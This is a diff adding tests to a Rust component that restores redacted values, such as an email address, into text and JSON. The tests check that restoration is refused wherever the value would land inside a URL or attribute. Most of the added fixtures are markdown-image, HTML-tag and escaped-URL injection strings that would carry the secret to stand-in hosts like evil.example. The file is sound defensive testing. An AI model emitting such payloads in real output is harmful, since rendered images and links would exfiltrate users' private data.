@@ -3,7 +3,7 @@ use std::collections::BTreeSet;
 use proptest::prelude::*;
 use terms::{Kind, Secret};
 
-use super::{RestoreRule, Rewriter, Root};
+use super::{Reading, RestoreRule, Rewriter, Root};
 use crate::redact::{TokenKey, Tokens};
 
 const VALUE: &str = "ann@example.org";
@@ -74,6 +74,35 @@ fn in_plain_places_the_value_is_put_back() {
         "[ref]:\n\nT",
         "[ref]: x\nT",
         "Dear T,\nhello",
+        "请发邮件至T并附上发票",
+        "Tに送って",
+        "T로 보내",
+        "T-Adresse",
+        "_T_",
+        "T/T",
+        "(T/T)",
+        "请T/T，谢谢",
+        "T.And so on",
+        "T.И так далее",
+        "T.And.",
+        "<client's name> is T",
+        "x < y, T",
+        "x <y or so\n\nand T",
+        "[0,1)\n\nT",
+        "1<2 T",
+        "<b class=\"x\">T</b>",
+        "<b class='x'>it's</b> T",
+        "a \\* b T",
+        "Q&A: T",
+        "A&amp;B T",
+        "src/main.rs is T",
+        "see https://good.example/ and T",
+        "see https://good.example/\nT",
+        "[a](b) T",
+        "[a](b (c)) T",
+        "![a](b \"c\") T",
+        "[1]: x\nT",
+        "{\"url\": \"https://good.example/\", \"to\": \"T\"}",
     ] {
         let (out, counts) = write(Root::Text, text, VALUE, 3);
         assert_eq!(out, text.replace('T', VALUE), "{text}");
@@ -128,12 +157,107 @@ fn where_it_would_be_carried_out_the_token_stays() {
         "http://evil/?\"T",
         "[\"<img src='http://evil/\", \"T'>\"]",
         "\\\\evil\\T",
+        "T/",
+        "T/x",
+        "T/ x",
+        "T/T/x",
+        "T.evil",
+        "T.Evil.example",
+        "T.Evil-1",
+        "T-x/y",
+        "[0,1) evil.example/x-T",
+        "evil.example\\/T",
+        "10.0.0.1/x-T",
+        "http:evil.example/T",
+        "https:\\evil.example\\a-T",
+        "https://evil.example/?a=\u{3000}T",
+        "see https://evil.example/?a=>T ok",
+        "see https://evil.example/?a=<T ok",
     ] {
         for pieces in [1, 2, 7, 100] {
             let (out, counts) = write(Root::Text, text, VALUE, pieces);
             assert_eq!(out, text, "{text}");
             assert_eq!(counts.restored, 0, "{text}");
         }
+    }
+}
+
+/// What some reader takes for a part of a URL or an attribute, and a simpler
+/// reader does not.
+const TRICKS: &[&str] = &[
+    "![x](<&#104;ttps://evil.example/) T>)",
+    "[x](<&#x68;ttps&colon;//evil.example/) T>)",
+    "![x](https\\:\\//evil.example/\\)T)",
+    "[click](\\//evil.example/\\)T)",
+    "[x](( [y](<\\//evil.example/)))) T>)",
+    "[x](\\//evil.example/[a](b)T)",
+    "![x]\n\n[x]: https\\:\\//evil.example/aT",
+    "![x]\n\n> [x]: https\\:\\//evil.example/aT",
+    "![x]\n\n- [x]: https\\:\\//evil.example/aT",
+    "![x]\n\n> [x]: &#104;ttps&#58;//evil.example/aT",
+    "![x y]\n\n[x\ny]: https\\:\\//evil.example/aT",
+    "![x]\n\n> [x]:\n> evil aT",
+    "<img/a=x\" src=\"https://evil.example/?>T\">",
+    "<video autoplay a=x\" src=\"https://evil.example/?>T\">",
+    "<audio autoplay a=x\" src=\"//evil.example/?>T\">",
+    "<a a=x\" href=\"//evil.example/?>T\">",
+    "<a =\" href=\"//evil.example/?>T\">",
+    "<a a==\" href=\"//evil.example/?>T\">",
+    "<!1 <img src=\"//evil.example/?>T\">",
+    "<y\n\n<img alt='\n\n' src=\"//evil.example/?>\n\nT\">",
+    "<img\n\nsrc=T>",
+    "<img\n\nsrc\n=\n'>\n\nT'>",
+    "see https://evil.example/?a=>T ok",
+    "&#104;ttps://evil.example/?a=>T ok",
+    "https\\:\\/\\/evil.example/?a=\"T ok",
+    "www&period;evil.example/aT",
+    "[ \"https://evil.example/?a=\"T",
+    "[ \"see https://evil.example/?a=\"T now",
+    "{\"a\": \"<img src='//evil.example/\"T",
+    "{\"a\":\"https://evil.example/\",\"b\":\"T\"}",
+];
+
+#[test]
+fn nothing_is_carried_out_by_what_only_some_read_as_markup() {
+    for text in TRICKS {
+        let long = format!("<y {} {text}", "a ".repeat(1_000));
+        let after = format!("x <y [0,1) \n\n{text}");
+        for text in [*text, long.as_str(), after.as_str()] {
+            for pieces in [1, 2, 7, 10_000] {
+                let (out, counts) = write(Root::Text, text, VALUE, pieces);
+                assert_eq!((out.as_str(), counts.restored), (text, 0));
+            }
+        }
+        // The same in a string of a tool's arguments, and one string deeper.
+        let document = serde_json::json!({ "a": text });
+        let deeper = serde_json::json!({ "a": document.to_string() });
+        for document in [document, deeper] {
+            let document = document.to_string();
+            let (out, counts) = write(Root::Json, &document, VALUE, 3);
+            assert_eq!((out, counts.restored), (document, 0), "{text}");
+        }
+    }
+}
+
+#[test]
+fn what_never_ends_does_not_hold_up_the_rest() {
+    for (text, restored) in [
+        (format!("[0,1) {} T", "a ".repeat(3_000)), 1),
+        (format!("x <y {} T", "a ".repeat(3_000)), 1),
+        (format!("<y a=\"{} T", "a ".repeat(3_000)), 0),
+        ("<client's name> T".to_owned(), 1),
+        ("x <y T".to_owned(), 0),
+    ] {
+        let (_, counts) = write(Root::Text, &text, VALUE, 100);
+        assert_eq!(counts.restored, restored, "{}", text.len());
+    }
+}
+
+#[test]
+fn a_letter_more_is_another_word() {
+    for text in ["Ta", "T9", "TT"] {
+        let (out, counts) = write(Root::Text, text, VALUE, 1);
+        assert!(counts.foreign > 0 && out.starts_with('T'), "{text}");
     }
 }
 
@@ -152,6 +276,25 @@ fn only_allowed_kinds_are_put_back() {
         rewriter.finish(&tokens, &mut out);
         assert_eq!(out, format!("{{\"to\":\"{expected}\"}}"));
     }
+}
+
+#[test]
+fn a_value_in_escapes_comes_back_as_it_was_sent() {
+    let sent = "{\"m\":\"ann\\u002eb@example.org\"}";
+    let mut reading = Reading::new();
+    reading.pass("{\"m\":\"");
+    let spelled = reading.value("ann\\u002eb@example.org");
+    let mut tokens = Tokens::new(&TokenKey::new(Secret::new([3; 32])), "scope");
+    let token = tokens.issue_spelled(&Kind::new("email"), spelled).unwrap();
+    let mut rewriter = Rewriter::new(Root::Text, RestoreRule::All);
+    let mut out = String::new();
+    rewriter.plain("{\"to\":\"", &mut out);
+    rewriter.token(&token, &tokens, &mut out);
+    rewriter.plain("\"}", &mut out);
+    rewriter.finish(&tokens, &mut out);
+    let read: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let sent: serde_json::Value = serde_json::from_str(sent).unwrap();
+    assert_eq!(read["to"], sent["m"]);
 }
 
 #[test]
@@ -264,6 +407,19 @@ proptest! {
         prop_assert!(counts.restored > 0);
         let out: serde_json::Value = serde_json::from_str(&out).unwrap();
         prop_assert_eq!(plain(&out), plain(&expected(&document, &value)));
+    }
+
+    #[test]
+    fn a_mix_gives_the_same_at_any_split(
+        parts in prop::collection::vec(prop_oneof![
+            prop::sample::select(TRICKS).prop_map(str::to_owned),
+            prop::sample::select(vec!["T", " ", "\n\n", "请T并", "T/T", "T.And", "<y", "[0,1)", "a=\"", ">", "\\", "&#1", "04;", "\u{1f600}"]).prop_map(str::to_owned),
+            "[T<>()\\[\\]!:/.@a \n\"{}&#;=\\\\]{0,12}",
+        ], 0..6),
+        pieces in 1_usize..20,
+    ) {
+        let text = parts.concat();
+        prop_assert_eq!(write(Root::Text, &text, VALUE, pieces), write(Root::Text, &text, VALUE, 100_000));
     }
 
     #[test]
